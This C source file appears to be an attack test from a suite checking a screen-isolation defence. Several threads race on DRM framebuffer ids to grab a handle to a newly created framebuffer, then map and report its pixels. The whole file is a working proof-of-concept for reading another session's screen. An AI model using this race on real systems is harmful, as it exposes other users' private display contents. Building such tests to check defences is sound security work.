// SPDX-License-Identifier: Apache-2.0
/*
 * Several threads ask for the framebuffer that will be made next, whose id is the
 * lowest free one, all the time; who finds it keeps a handle to its pixels.
 *
 * attack: framebuffer_id_race
 * class: screen
 * when: before
 * judge: picture-read
 * ree: attack
 * defence: module
 * why: a framebuffer has an id before it can be hidden; until then the session's gives no handles
 */
#include <errno.h>
#include <linux/capability.h>
#include <pthread.h>
#include <stdatomic.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <xf86drm.h>
#include <xf86drmMode.h>

#include "report.h"
#include "screen.h"

#define THREADS	3
#define IDS	4		/* from the lowest free one on */
#define DRAWN	1200		/* milliseconds until what was found has been drawn on */
#define GREY	0x00808080u

static struct screen s;
static uint32_t next;
static atomic_uint found, tries;
static atomic_bool taken;
static struct screen_buffer got;

static void *race(void *unused)
{
	unsigned int turn;

	(void)unused;
	for (turn = 0; !attack_stopping() && !taken; turn++) {
		struct drm_mode_fb_cmd2 fb = { .fb_id = next + turn % IDS };

		tries++;
		if (ioctl(s.card, DRM_IOCTL_MODE_GETFB2, &fb)) {
			found += errno != ENOENT;
			continue;
		}
		if (fb.handles[0] && fb.width == s.mode.hdisplay && !atomic_exchange(&taken, true))
			got.handle = fb.handles[0];
	}
	return NULL;
}

/* Learns which id is next; who may not look as CAP_SYS_ADMIN becomes master for it. */
static int prepare(void)
{
	struct screen_buffer b;
	int ret = screen_open(&s);

	if (!ret && prctl(PR_CAPBSET_READ, CAP_SYS_ADMIN) != 1) {
		ret = screen_become_master(&s);
		if (!ret)
			ret = screen_make(&s, GREY, &b);
		if (!ret)
			ret = screen_show(&s, &b);
	}
	if (!ret)
		ret = screen_make(&s, GREY, &b);
	if (ret)
		return ret;
	next = b.fb;
	return drmModeRmFB(s.card, b.fb);
}

static int report(void)
{
	struct screen_buffer b = got;
	int ret;

	b.width = s.mode.hdisplay;
	b.height = s.mode.vdisplay;
	b.pitch = b.width * 4;
	b.size = (uint64_t)b.pitch * b.height;
	ret = screen_map_handle(s.card, &b);
	if (ret)
		return ret;
	attack_wait(DRAWN);
	screen_report(b.map, b.pitch, b.width, b.height);
	while (!attack_wait(1000))
		;
	attack_picture();
	screen_report(b.map, b.pitch, b.width, b.height);
	return 0;
}

int main(void)
{
	pthread_t threads[THREADS];
	unsigned int i;
	int ret;

	attack_init();
	ret = prepare();
	if (ret)
		attack_failed("no screen: %s", strerror(-ret));
	for (i = 0; i < THREADS; i++)
		if (pthread_create(&threads[i], NULL, race, NULL))
			attack_failed("no threads");
	attack_ready();
	for (i = 0; i < THREADS; i++)
		pthread_join(threads[i], NULL);
	attack_note("%u tries from id %u on, %u framebuffers found that gave nothing", tries, next,
		    found);
	if (!taken)
		attack_failed("no handle was had");
	ret = report();
	if (ret)
		attack_failed("the handle is good for nothing: %s", strerror(-ret));
	attack_succeeded("mapped the pixels of a framebuffer that was new");
}
